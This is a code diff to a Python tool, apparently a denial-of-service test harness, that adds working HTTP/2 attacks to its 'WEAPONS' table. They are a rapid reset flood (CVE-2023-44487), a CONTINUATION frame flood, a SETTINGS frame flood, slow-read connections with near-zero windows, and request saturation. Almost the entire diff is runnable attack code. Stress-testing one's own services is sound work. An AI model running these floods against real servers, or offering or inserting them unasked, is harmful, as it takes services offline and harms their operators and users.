@@ -18,6 +18,12 @@ from pathlib import Path
 from typing import NamedTuple
 
 import click
+from h2.config import H2Configuration
+from h2.connection import H2Connection
+from h2.errors import ErrorCodes
+from h2.events import StreamEnded
+from h2.settings import SettingCodes
+from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame
 
 from perf.priority import ATTACKERS, prioritize
 
@@ -32,6 +38,7 @@ SLOWHTTPTEST = "slowhttptest"  # Debian's package of that name
 ADDRESS = "127.0.0.2"  # not the victim's: a node may well shut out an address
 YAMUX = struct.Struct(">BBHLL")
 WINDOW_UPDATE, PING, SYN = 1, 2, 1
+FRAME_HEAD = 9  # bytes, of HTTP/2's
 
 
 class Aim(NamedTuple):
@@ -234,6 +241,82 @@ def steady(aim: Aim, rate: int = 100) -> None:
             time.sleep(1 / rate)
 
 
+def _http2(aim: Aim, settings: dict[int, int] | None = None) -> tuple[socket.socket, H2Connection]:
+    """A connection of HTTP/2 by prior knowledge, which has said its settings."""
+    sock, h2 = client(aim), H2Connection(H2Configuration())
+    h2.initiate_connection()
+    if settings:
+        h2.update_settings(settings)
+    sock.sendall(h2.data_to_send())
+    return sock, h2
+
+
+def _http2_head(aim: Aim, h2: H2Connection, stream: int, path: str = "/") -> bytes:
+    """A request of HTTP/2 without a body."""
+    fields = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", f"{ATTACKED}.test")]
+    if aim.token:
+        fields.append(("authorization", f"Bearer {aim.token}"))
+    h2.send_headers(stream, fields, end_stream=True)
+    return h2.data_to_send()
+
+
+def http2_resets(aim: Aim) -> None:
+    """Ask, and reset at once ("rapid reset", CVE-2023-44487), until the connection is ended."""
+    sock, h2 = _http2(aim)
+    with sock:
+        for stream in range(1, 1 << 30, 2):
+            head = _http2_head(aim, h2, stream)
+            h2.reset_stream(stream, ErrorCodes.CANCEL)
+            sock.sendall(head + h2.data_to_send())
+            if time.monotonic() > aim.until:
+                return
+
+
+def http2_continuations(aim: Aim) -> None:
+    """A head in pieces that does not end."""
+    sock, h2 = _http2(aim)
+    with sock:
+        head = HeadersFrame(1, _http2_head(aim, h2, 1)[FRAME_HEAD:]).serialize()
+        sock.sendall(head)
+        flood(sock, aim, ContinuationFrame(1).serialize() * 500)
+
+
+def http2_settings(aim: Aim) -> None:
+    """Settings that want an answer, again and again."""
+    sock, _ = _http2(aim)
+    with sock:
+        flood(sock, aim, SettingsFrame(settings={SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize() * 500)
+
+
+def http2_slow_reads(aim: Aim, connections: int = 25, streams: int = 100) -> None:
+    """Downloads, 100 on each connection, whose windows are all but shut."""
+    held = []
+    for _ in range(connections):
+        sock, h2 = _http2(aim, {SettingCodes.INITIAL_WINDOW_SIZE: 1})
+        sock.sendall(b"".join(_http2_head(aim, h2, 2 * number + 1, "/bulk") for number in range(streams)))
+        held.append(sock)
+    time.sleep(max(0.0, aim.until - time.monotonic()))
+    for sock in held:
+        sock.close()
+
+
+def http2_requests(aim: Aim, streams: int = 100) -> None:
+    """No trick: 100 requests at once, and as many again when they are answered."""
+    sock, h2 = _http2(aim)
+    with sock:
+        number = 1
+        while time.monotonic() < aim.until:
+            sock.sendall(b"".join(_http2_head(aim, h2, number + 2 * one) for one in range(streams)))
+            number += 2 * streams
+            answered = 0
+            while answered < streams:
+                data = sock.recv(1 << 20)
+                if not data:
+                    return
+                answered += sum(isinstance(event, StreamEnded) for event in h2.receive_data(data))
+                sock.sendall(h2.data_to_send())
+
+
 def unread_uploads(aim: Aim, count: int = 25) -> None:
     """Many large bodies to a service that does not read them."""
     socks = []
@@ -302,6 +385,11 @@ WEAPONS: dict[str, Callable[[Aim], None]] = {
     "crowded-agents": crowded_agents,
     "silence": silence,
     "unread-uploads": unread_uploads,
+    "http2-resets": http2_resets,
+    "http2-continuations": http2_continuations,
+    "http2-settings": http2_settings,
+    "http2-slow-reads": http2_slow_reads,
+    "http2-requests": http2_requests,
     "registrations": registrations,
     "idle": idle,
     "slowhttptest-heads": _slowhttptest("-H"),
